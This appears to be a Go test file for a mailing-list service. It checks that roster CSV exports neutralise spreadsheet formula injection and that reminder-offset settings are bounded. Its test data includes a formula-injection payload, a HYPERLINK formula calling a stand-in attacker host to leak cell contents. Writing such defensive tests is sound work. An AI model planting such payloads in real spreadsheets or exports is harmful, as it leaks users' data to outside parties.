package listserv

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// TestRosterCSVNeutralisesFormulas: a name a member chose can start with
// =, +, -, @, a tab or a carriage return, which a spreadsheet runs as a
// formula (=HYPERLINK(...) leaks data when clicked); the export prefixes
// such cells with ' so they open as text.
func TestRosterCSVNeutralisesFormulas(t *testing.T) {
	e := newDoorEnv(t, nil)
	e.list("disc", "discussion", map[string]string{"own@example.org": "owner"})
	names := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "Ann Arbor"}
	var specs []MemberSpec
	for i, n := range names {
		specs = append(specs, MemberSpec{Address: string(rune('a'+i)) + "@example.org", Name: n})
	}
	if res, err := e.svc.AddMembers(bg, op, "disc", specs, false); err != nil {
		t.Fatal(err)
	} else {
		for _, r := range res {
			if r.Err != nil {
				t.Fatal(r.Err)
			}
		}
	}
	var buf bytes.Buffer
	if err := e.svc.RosterCSV(bg, op, "disc", &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q starts a formula", cell)
			}
		}
		if row[0] == "g@example.org" && row[1] != "Ann Arbor" {
			t.Errorf("a plain name changed: %q", row[1])
		}
	}
}

// TestReminderOffsetsBounded: reminder_offsets takes at most
// maxReminderOffsets entries, each between a minute and 60 days.
func TestReminderOffsetsBounded(t *testing.T) {
	e := newDoorEnv(t, nil)
	e.list("disc", "discussion", nil)
	many := strings.Repeat("1m,", 398) + "1m"
	for _, v := range []string{many, "1h,2h,3h,4h,5h,6h", "0s", "-1h", "9000h", "24h,24h"} {
		if _, err := e.svc.SetList(bg, op, "disc", []string{"reminder_offsets=" + v}); err == nil {
			t.Errorf("reminder_offsets=%.40s accepted", v)
		}
	}
	if _, err := e.svc.SetList(bg, op, "disc", []string{"reminder_offsets=48h,24h,1h,15m,5m"}); err != nil {
		t.Errorf("five reminders refused: %v", err)
	}
	if _, err := e.svc.SetList(bg, op, "disc", []string{"reminder_offsets="}); err != nil {
		t.Errorf("no reminders refused: %v", err)
	}
}
